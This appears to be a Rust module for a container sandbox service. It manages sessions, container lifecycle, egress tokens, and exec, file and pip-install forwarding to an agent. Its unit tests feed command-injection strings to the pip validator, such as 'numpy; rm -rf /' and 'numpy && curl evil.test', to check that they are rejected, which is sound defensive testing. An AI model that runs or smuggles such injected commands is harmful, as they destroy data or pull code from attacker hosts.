//! The session manager (spec.md §4.5, C5): owns the session table, drives
//! container lifecycle through [`ContainerRuntimeApi`], mints egress
//! tokens, and forwards exec/file operations to each session's agent.
//!
//! Grounded on `original_source/agentbox/sandbox_manager.py`'s
//! `SandboxManager`, translated from its asyncio-with-a-lock design onto a
//! lock-free [`DashMap`] (SPEC_FULL.md §C.5, DESIGN.md's Open Question
//! resolution: the manager carries no persistence, so there's nothing a
//! lock would protect beyond the table itself, and `DashMap` already makes
//! the table itself safe to share across tonic's per-request tasks).

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use chrono::Utc;
use dashmap::DashMap;
use regex::Regex;
use sandbox_container::{ContainerRuntimeApi, ContainerSpec, CpuLimit, NetworkConfig, PortMapping};
use sandbox_proto::hosts::Allowlist;
use sandbox_proto::{ExecRequest, ExecResult, ExecStreamRequest, ReadFileRequest, ReadFileResponse, StreamEvent, WriteFileRequest, WriteFileResponse, WriteMode};
use sandbox_token::TokenService;
use tokio_stream::Stream;

use crate::config::ManagerConfig;
use crate::error::{ManagerError, ManagerResult};
use crate::models::{Session, SessionInfo};

/// Container resource defaults (SPEC_FULL.md §C.5, matching
/// `sandbox_manager.py`'s `_create_container`: 4 GiB memory, 4 CPUs).
const DEFAULT_MEMORY_LIMIT_BYTES: u64 = 4 * 1024 * 1024 * 1024;
const DEFAULT_CPU_COUNT: f64 = 4.0;
const AGENT_CONTAINER_PORT: u16 = 2024;

/// Readiness poll cadence and deadline (spec.md §4.5 "poll the agent's
/// `/health`... up to a bounded deadline").
const READINESS_POLL_INTERVAL: Duration = Duration::from_millis(100);
const READINESS_DEADLINE: Duration = Duration::from_secs(30);

/// Idle reaper sweep interval (spec.md §4.7, matching the original's
/// `_cleanup_loop`).
const REAPER_INTERVAL: Duration = Duration::from_secs(60);

const DEFAULT_EXEC_TIMEOUT_SECS: u64 = 120;

/// Grace added on top of the requested exec timeout before the manager's
/// own transport deadline fires (spec.md §4.5: "transport timeout is
/// `timeout + small grace`"), giving the agent room to finish encoding its
/// own `timed_out` response first.
const EXEC_TRANSPORT_GRACE: Duration = Duration::from_secs(5);

/// Connect-only timeout for the manager's shared agent HTTP client
/// (spec.md §5: "every outbound call carries a deadline").
const AGENT_CONNECT_TIMEOUT: Duration = Duration::from_secs(5);

/// Request deadline for file I/O calls to the agent, which (unlike exec)
/// have no caller-supplied timeout of their own (spec.md §7
/// `DeadlineExceeded` covers "RPC transport timeout").
const FILE_IO_TIMEOUT: Duration = Duration::from_secs(30);

/// Per-session bound on how long shutdown waits for a single destroy before
/// moving on (spec.md §5: "all in-flight operations observe cancellation
/// within a bounded grace period, after which resources are released
/// regardless").
const SHUTDOWN_GRACE: Duration = Duration::from_secs(10);

/// Package name grammar `PipInstall` accepts: a PEP 508-like name, optional
/// `[extras]`, optional version specifier (SPEC_FULL.md §C.8, lifted from
/// `original_source/agentbox/sandbox_manager.py`'s `_PIP_PACKAGE_PATTERN`).
fn pip_package_pattern() -> &'static Regex {
    static PATTERN: std::sync::OnceLock<Regex> = std::sync::OnceLock::new();
    PATTERN.get_or_init(|| {
        Regex::new(r"^[A-Za-z0-9][A-Za-z0-9._-]*(?:\[[A-Za-z0-9,._-]+\])?(?:[<>=!~]+[A-Za-z0-9.*,<>=!~]+)?$").unwrap()
    })
}

pub struct SessionManager {
    config: ManagerConfig,
    runtime: Arc<dyn ContainerRuntimeApi>,
    tokens: TokenService,
    http: reqwest::Client,
    sessions: DashMap<String, Session>,
    reaper_handle: std::sync::Mutex<Option<tokio::task::JoinHandle<()>>>,
    created_total: AtomicU64,
    destroyed_total: AtomicU64,
}

impl SessionManager {
    pub fn new(config: ManagerConfig, runtime: Arc<dyn ContainerRuntimeApi>, tokens: TokenService) -> Self {
        Self {
            config,
            runtime,
            tokens,
            // A connect-only timeout, not an overall request timeout: every
            // outbound call must carry a deadline (spec.md §5), but
            // `/exec/stream` suspends indefinitely while bytes flow and must
            // not be cut off by a blanket client-wide timeout. `exec` layers
            // its own request deadline on top (`timeout + grace`, above).
            http: reqwest::Client::builder()
                .connect_timeout(AGENT_CONNECT_TIMEOUT)
                .build()
                .unwrap_or_default(),
            sessions: DashMap::new(),
            reaper_handle: std::sync::Mutex::new(None),
            created_total: AtomicU64::new(0),
            destroyed_total: AtomicU64::new(0),
        }
    }

    /// Create a session: resolve its allowlist, mint its egress token,
    /// create and start its container, and wait for its agent to answer
    /// `/health` before returning (spec.md §4.5 `CreateSession`).
    pub async fn create_session(
        &self,
        session_id: Option<String>,
        tenant_id: Option<String>,
        allowed_hosts: Option<Allowlist>,
    ) -> ManagerResult<SessionInfo> {
        let session_id = session_id.unwrap_or_else(|| format!("sbx-{}", uuid::Uuid::new_v4()));

        if let Some(existing) = self.sessions.get(&session_id) {
            // Idempotent create (spec.md §4.5): returning the existing
            // session rather than erroring matches the original's
            // "if session_id already exists, return it" behavior.
            return Ok(SessionInfo::from(&*existing));
        }

        // Unset means "use the default allowlist"; present-but-empty means
        // "no network" (DESIGN.md's Open Question resolution, carried as
        // `Option<Allowlist>` all the way from the RPC boundary).
        let allowed_hosts = allowed_hosts.unwrap_or_else(Allowlist::default_registries);

        let now = Utc::now();
        let token = self.tokens.mint(&session_id, tenant_id.as_deref(), &allowed_hosts, now, sandbox_token::DEFAULT_TTL_SECONDS);

        let network = if allowed_hosts.is_empty() {
            NetworkConfig::None
        } else if let Some(proxy_url) = self.config.proxy_url_for_token(&token) {
            NetworkConfig::Proxied { proxy_url }
        } else {
            tracing::warn!(%session_id, "no egress proxy configured; session has unrestricted network access");
            NetworkConfig::Open
        };

        let mut spec = ContainerSpec::new(self.config.image.clone(), session_id.clone())
            .memory_limit_bytes(DEFAULT_MEMORY_LIMIT_BYTES)
            .cpu_limit(CpuLimit::cpus(DEFAULT_CPU_COUNT))
            .oci_runtime(self.config.oci_runtime)
            .network(network)
            .port(PortMapping::ephemeral(AGENT_CONTAINER_PORT))
            .label("sandbox.session_id", session_id.clone());

        if let (Some(root), Some(tenant)) = (&self.config.storage_root, &tenant_id) {
            let (workspace_dir, outputs_dir) = ensure_tenant_storage(root, tenant).await?;
            spec = spec
                .volume(workspace_dir.display().to_string(), "/workspace")
                .volume(outputs_dir.display().to_string(), "/mnt/user-data/outputs");
        }

        let handle = self.runtime.create(&spec).await?;

        let api_port = self.wait_for_agent_ready(&handle).await?;

        let session = Session {
            session_id: session_id.clone(),
            tenant_id,
            container_handle: handle,
            api_host: "127.0.0.1".to_string(),
            api_port,
            allowed_hosts,
            created_at: now,
            last_activity: now,
        };

        let info = SessionInfo::from(&session);
        self.sessions.insert(session_id, session);
        self.created_total.fetch_add(1, Ordering::Relaxed);
        Ok(info)
    }

    /// Poll the container's inspect result and then its agent's `/health`
    /// until both are ready, or fail after [`READINESS_DEADLINE`] (spec.md
    /// §4.5, grounded on the original's `_wait_for_process_api` and
    /// `byteowlz-oqto`'s `HttpSessionReadiness` polling-loop shape).
    async fn wait_for_agent_ready(&self, handle: &str) -> ManagerResult<u16> {
        let deadline = tokio::time::Instant::now() + READINESS_DEADLINE;

        loop {
            if let Some(inspect) = self.runtime.inspect(handle).await? {
                if let Some(port) = inspect.agent_host_port {
                    let url = format!("http://127.0.0.1:{port}/health");
                    if let Ok(resp) = self.http.get(url).send().await {
                        if resp.status().is_success() {
                            return Ok(port);
                        }
                    }
                }
            }

            if tokio::time::Instant::now() >= deadline {
                let _ = self.runtime.remove(handle, true).await;
                return Err(ManagerError::AgentUnready(format!(
                    "agent in container {handle} did not become ready within {READINESS_DEADLINE:?}"
                )));
            }

            tokio::time::sleep(READINESS_POLL_INTERVAL).await;
        }
    }

    /// Destroy a session (spec.md §4.5 `DestroySession`). A missing
    /// container is treated as already destroyed, matching the original's
    /// "best effort, never raises"; a missing *session*, however, returns
    /// `false` (spec.md §8: destroying the same session twice returns
    /// `true` then `false`).
    pub async fn destroy_session(&self, session_id: &str) -> ManagerResult<bool> {
        let Some((_, session)) = self.sessions.remove(session_id) else {
            return Ok(false);
        };

        match self.runtime.remove(&session.container_handle, true).await {
            Ok(()) => {}
            Err(sandbox_container::ContainerError::ContainerNotFound(_)) => {}
            Err(e) => return Err(e.into()),
        }

        self.destroyed_total.fetch_add(1, Ordering::Relaxed);
        Ok(true)
    }

    /// Look up a session, touching its `last_activity` (spec.md §4.6
    /// `GetSession` counts as activity, same as exec/file operations).
    pub fn get_session(&self, session_id: &str) -> ManagerResult<SessionInfo> {
        let mut entry = self
            .sessions
            .get_mut(session_id)
            .ok_or_else(|| ManagerError::SessionNotFound(session_id.to_string()))?;
        entry.touch(Utc::now());
        Ok(SessionInfo::from(&*entry))
    }

    pub fn list_sessions(&self) -> Vec<SessionInfo> {
        self.sessions.iter().map(|e| SessionInfo::from(e.value())).collect()
    }

    /// Forward to the session's agent `/exec`. The transport deadline is the
    /// requested exec timeout plus a small grace period (spec.md §4.5),
    /// giving the agent room to finish encoding its own timeout response
    /// before the manager gives up on the connection. Transport-level
    /// failures are data, not errors: they come back as an `ExecResult`
    /// carrying the failure message, with `timed_out` set only when the
    /// transport deadline itself is what fired (spec.md §4.5, §7).
    pub async fn exec(&self, session_id: &str, command: &str, workdir: Option<String>, timeout: Option<u64>) -> ManagerResult<ExecResult> {
        let api_url = self.touch_and_get_api_url(session_id)?;
        let effective_timeout = timeout.unwrap_or(DEFAULT_EXEC_TIMEOUT_SECS);

        let req = ExecRequest {
            command: command.to_string(),
            workdir,
            timeout: Some(effective_timeout),
        };

        let transport_deadline = Duration::from_secs(effective_timeout) + EXEC_TRANSPORT_GRACE;

        let resp = match self
            .http
            .post(format!("{api_url}/exec"))
            .timeout(transport_deadline)
            .json(&req)
            .send()
            .await
        {
            Ok(resp) => resp,
            Err(e) => {
                return Ok(ExecResult {
                    exit_code: -1,
                    stdout: String::new(),
                    stderr: e.to_string(),
                    timed_out: e.is_timeout(),
                });
            }
        };

        resp.json::<ExecResult>().await.map_err(|e| ManagerError::Internal(e.to_string()))
    }

    /// Stream exec output (spec.md §4.6 `ExecStream`): forwards the
    /// agent's SSE stream as a sequence of [`StreamEvent`]s.
    pub async fn exec_stream(
        &self,
        session_id: &str,
        command: &str,
        workdir: Option<String>,
    ) -> ManagerResult<impl Stream<Item = StreamEvent> + Send + 'static> {
        let api_url = self.touch_and_get_api_url(session_id)?;

        let req = ExecStreamRequest {
            command: command.to_string(),
            workdir,
        };

        let resp = self
            .http
            .post(format!("{api_url}/exec/stream"))
            .json(&req)
            .send()
            .await
            .map_err(map_transport_error)?;

        Ok(sse_to_stream_events(resp))
    }

    pub async fn write_file(&self, session_id: &str, path: &str, content: &str, append: bool) -> ManagerResult<()> {
        let api_url = self.touch_and_get_api_url(session_id)?;

        let req = WriteFileRequest {
            path: path.to_string(),
            content: content.to_string(),
            mode: if append { WriteMode::Append } else { WriteMode::Write },
        };

        let resp = self
            .http
            .post(format!("{api_url}/file/write"))
            .timeout(FILE_IO_TIMEOUT)
            .json(&req)
            .send()
            .await
            .map_err(map_transport_error)?;

        let body: WriteFileResponse = resp.json().await.map_err(|e| ManagerError::Internal(e.to_string()))?;
        if body.success {
            Ok(())
        } else {
            Err(ManagerError::Internal(body.error.unwrap_or_else(|| "write failed".to_string())))
        }
    }

    pub async fn read_file(&self, session_id: &str, path: &str) -> ManagerResult<String> {
        let api_url = self.touch_and_get_api_url(session_id)?;

        let req = ReadFileRequest { path: path.to_string() };

        let resp = self
            .http
            .post(format!("{api_url}/file/read"))
            .timeout(FILE_IO_TIMEOUT)
            .json(&req)
            .send()
            .await
            .map_err(map_transport_error)?;

        let body: ReadFileResponse = resp.json().await.map_err(|e| ManagerError::Internal(e.to_string()))?;
        if body.success {
            Ok(body.content.unwrap_or_default())
        } else {
            Err(ManagerError::InvalidArgument(body.error.unwrap_or_else(|| "read failed".to_string())))
        }
    }

    /// `pip install` gated behind two checks (spec.md §4.5 `PipInstall`):
    /// every package name matches [`pip_package_pattern`], and the
    /// session's allowlist actually permits reaching PyPI.
    pub async fn pip_install(&self, session_id: &str, packages: &[String], timeout: Option<u64>) -> ManagerResult<ExecResult> {
        if packages.is_empty() {
            return Err(ManagerError::InvalidArgument("no packages given".to_string()));
        }

        for pkg in packages {
            if !pip_package_pattern().is_match(pkg) {
                return Err(ManagerError::InvalidArgument(format!("rejected package spec: {pkg}")));
            }
        }

        let session = self
            .sessions
            .get(session_id)
            .ok_or_else(|| ManagerError::SessionNotFound(session_id.to_string()))?;
        if !session.allowed_hosts.allows_pypi() {
            return Err(ManagerError::InvalidArgument(
                "session's allowlist does not permit reaching pypi.org and files.pythonhosted.org".to_string(),
            ));
        }
        drop(session);

        let mut command = "pip install --no-input".to_string();
        for pkg in packages {
            command.push(' ');
            command.push_str(pkg);
        }

        self.exec(session_id, &command, None, Some(timeout.unwrap_or(DEFAULT_EXEC_TIMEOUT_SECS))).await
    }

    /// Touch a session's `last_activity` and return its agent's base URL;
    /// every exec/file operation counts as activity (spec.md §4.6).
    fn touch_and_get_api_url(&self, session_id: &str) -> ManagerResult<String> {
        let mut entry = self
            .sessions
            .get_mut(session_id)
            .ok_or_else(|| ManagerError::SessionNotFound(session_id.to_string()))?;
        entry.touch(Utc::now());
        Ok(entry.api_url())
    }

    /// Spawn the idle reaper (spec.md §4.7): periodically destroys
    /// sessions whose `last_activity` is older than `session_timeout_secs`,
    /// swallowing individual destroy failures so one bad session can't
    /// wedge the sweep (matching the original's `_cleanup_loop`).
    pub fn spawn_reaper(self: &Arc<Self>) {
        let manager = Arc::clone(self);
        let handle = tokio::spawn(async move {
            let mut interval = tokio::time::interval(REAPER_INTERVAL);
            loop {
                interval.tick().await;
                manager.reap_expired().await;
            }
        });
        *self.reaper_handle.lock().unwrap() = Some(handle);
    }

    async fn reap_expired(&self) {
        let now = Utc::now();
        let timeout = chrono::Duration::seconds(self.config.session_timeout_secs as i64);
        let expired: Vec<String> = self
            .sessions
            .iter()
            .filter(|e| now - e.last_activity > timeout)
            .map(|e| e.session_id.clone())
            .collect();

        for session_id in expired {
            tracing::info!(%session_id, "reaping idle session");
            if let Err(e) = self.destroy_session(&session_id).await {
                tracing::warn!(%session_id, error = %e, "failed to reap idle session");
            }
        }
    }

    /// Stop the reaper and destroy every remaining session (spec.md §4.7
    /// "on shutdown, the manager destroys all live sessions").
    pub async fn shutdown(&self) {
        if let Some(handle) = self.reaper_handle.lock().unwrap().take() {
            handle.abort();
        }

        let session_ids: Vec<String> = self.sessions.iter().map(|e| e.session_id.clone()).collect();
        for session_id in session_ids {
            match tokio::time::timeout(SHUTDOWN_GRACE, self.destroy_session(&session_id)).await {
                Ok(Ok(_)) => {}
                Ok(Err(e)) => tracing::warn!(%session_id, error = %e, "failed to destroy session during shutdown"),
                Err(_) => tracing::warn!(%session_id, "session destroy exceeded shutdown grace period; abandoning"),
            }
        }
    }
}

/// Map a `reqwest` transport failure onto the taxonomy in spec.md §7:
/// a client-side deadline firing is `DeadlineExceeded`, anything else
/// reaching the agent is `Unavailable`.
fn map_transport_error(e: reqwest::Error) -> ManagerError {
    if e.is_timeout() {
        ManagerError::DeadlineExceeded
    } else {
        ManagerError::Unavailable(e.to_string())
    }
}

/// Ensure `<root>/<tenant_id>/workspace` and `<root>/<tenant_id>/outputs`
/// exist, creating them idempotently (spec.md §4.5/§6 "Storage layout"), and
/// return their host paths for mounting into the container at `/workspace`
/// and `/mnt/user-data/outputs`.
async fn ensure_tenant_storage(root: &std::path::Path, tenant: &str) -> ManagerResult<(std::path::PathBuf, std::path::PathBuf)> {
    let tenant_root = root.join(tenant);
    let workspace_dir = tenant_root.join("workspace");
    let outputs_dir = tenant_root.join("outputs");

    tokio::fs::create_dir_all(&workspace_dir)
        .await
        .map_err(|e| ManagerError::Internal(format!("creating tenant workspace dir: {e}")))?;
    tokio::fs::create_dir_all(&outputs_dir)
        .await
        .map_err(|e| ManagerError::Internal(format!("creating tenant outputs dir: {e}")))?;

    Ok((workspace_dir, outputs_dir))
}

fn sse_to_stream_events(resp: reqwest::Response) -> impl Stream<Item = StreamEvent> + Send + 'static {
    use tokio_stream::StreamExt;

    let byte_stream = resp.bytes_stream();
    async_stream::stream! {
        let mut buf = String::new();
        tokio::pin!(byte_stream);
        while let Some(chunk) = byte_stream.next().await {
            let Ok(chunk) = chunk else { break };
            buf.push_str(&String::from_utf8_lossy(&chunk));
            while let Some(idx) = buf.find("\n\n") {
                let frame = buf[..idx].to_string();
                buf.drain(..idx + 2);
                for line in frame.lines() {
                    if let Some(data) = line.strip_prefix("data: ").or_else(|| line.strip_prefix("data:")) {
                        if let Ok(event) = serde_json::from_str::<StreamEvent>(data.trim()) {
                            yield event;
                        }
                    }
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pip_pattern_accepts_name_with_extras_and_version() {
        assert!(pip_package_pattern().is_match("requests[socks]>=2.0,<3"));
        assert!(pip_package_pattern().is_match("numpy"));
        assert!(pip_package_pattern().is_match("scikit-learn==1.3.0"));
    }

    #[test]
    fn pip_pattern_rejects_shell_metacharacters() {
        assert!(!pip_package_pattern().is_match("numpy; rm -rf /"));
        assert!(!pip_package_pattern().is_match("$(whoami)"));
        assert!(!pip_package_pattern().is_match("numpy && curl evil.test"));
    }

    #[test]
    fn pip_pattern_rejects_leading_punctuation() {
        assert!(!pip_package_pattern().is_match("-e git+https://evil"));
    }

    #[tokio::test]
    async fn ensure_tenant_storage_creates_both_dirs_idempotently() {
        let tmp = tempfile::tempdir().unwrap();
        let (workspace, outputs) = ensure_tenant_storage(tmp.path(), "tenant-a").await.unwrap();
        assert!(workspace.is_dir());
        assert!(outputs.is_dir());
        assert_eq!(workspace, tmp.path().join("tenant-a/workspace"));
        assert_eq!(outputs, tmp.path().join("tenant-a/outputs"));

        // Calling again for the same tenant must not fail.
        let (workspace2, outputs2) = ensure_tenant_storage(tmp.path(), "tenant-a").await.unwrap();
        assert_eq!(workspace, workspace2);
        assert_eq!(outputs, outputs2);
    }
}
